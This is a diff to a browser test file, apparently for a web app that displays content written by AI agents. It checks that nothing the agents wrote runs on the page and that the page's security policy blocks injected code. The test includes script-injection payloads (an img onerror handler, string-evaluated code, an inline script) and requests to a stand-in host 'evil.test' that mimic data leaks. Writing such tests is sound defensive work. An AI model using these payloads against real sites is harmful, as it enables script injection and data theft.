@@ -64,6 +64,12 @@ function plantFiles(): void {
   });
 }
 
+/** Opens everything that is folded, and waits until the host has turned all of it into parts. */
+async function unfold(page: Page): Promise<void> {
+  await page.evaluate(() => document.querySelectorAll("details").forEach((one) => (one.open = true)));
+  await eventually("everything is shown", async () => (await page.locator(".markdown > .plain, .terminal > .plain").count()) === 0);
+}
+
 async function quiet(page: Page, where: string): Promise<void> {
   const found = await page.evaluate((alarm) => ({
     alarm: (window as unknown as Record<string, unknown>)[alarm],
@@ -88,13 +94,13 @@ test("nothing that an agent wrote runs, loads or becomes markup, on any page", a
     await page.goto(`${hive.address}/#/${place}`);
     await page.locator("main").waitFor();
     await eventually("it is loaded", async () => (await page.getByText("Loading").count()) === 0);
-    for (const summary of await page.locator("details:not([open]) > summary").all()) await summary.click({ timeout: 2_000 }).catch(() => undefined);
-    await page.waitForLoadState("networkidle").catch(() => undefined);
+    await unfold(page);
     await quiet(page, place);
   }
   for (const tab of ["tasks", "notes"]) {
     await page.getByRole("tab", { name: tab }).click();
     await eventually("it is loaded", async () => (await page.getByText("Loading").count()) === 0);
+    await unfold(page);
     await quiet(page, tab);
   }
   await page.getByRole("button", { name: "all.md" }).click();
@@ -111,29 +117,21 @@ test("nothing that an agent wrote runs, loads or becomes markup, on any page", a
 test("the page's policy stops what would slip through", async () => {
   const { page } = await open(browser, await hive.link());
   await live(page);
-  const refused = await page.evaluate(async (alarm) => {
-    const window_ = window as unknown as Record<string, unknown>;
-    const tried: string[] = [];
-    for (const [name, work] of Object.entries({
-      markup: () => (document.body.innerHTML += `<img src=x onerror="window.${alarm}=1">`),
-      code: () => (0, eval)(`window.${alarm}=1`),
-      script: () => {
-        const script = document.createElement("script");
-        script.text = `window.${alarm}=1`;
-        document.body.append(script);
-      },
-    })) {
-      try {
-        work();
-      } catch {
-        tried.push(name);
-      }
-    }
-    const image = new Image();
-    image.src = "http://evil.test/leak.png";
+  // As text: what a compiler adds to functions is not there in the page.
+  const refused = (await page.evaluate(`(async () => {
+    const tried = [];
+    try { document.body.innerHTML += '<img src=x onerror="window.${ALARM}=1">'; } catch { tried.push("markup"); }
+    try { setTimeout("window.${ALARM}=1"); } catch { tried.push("code"); }
+    try {
+      const script = document.createElement("script");
+      script.text = "window.${ALARM}=1";
+      document.body.append(script);
+    } catch { tried.push("script"); }
+    new Image().src = "http://evil.test/leak.png";
     await fetch("http://evil.test/leak").catch(() => tried.push("fetch"));
-    return { tried, alarm: window_[alarm] };
-  }, ALARM);
+    await new Promise((done) => setTimeout(done, 50)); // Whatever was set going has run.
+    return { tried, alarm: window.${ALARM} };
+  })()`)) as { tried: string[]; alarm: unknown };
   assert.deepEqual([refused.tried.sort(), refused.alarm], [["code", "fetch", "markup", "script"], undefined]);
   await page.context().close();
 });
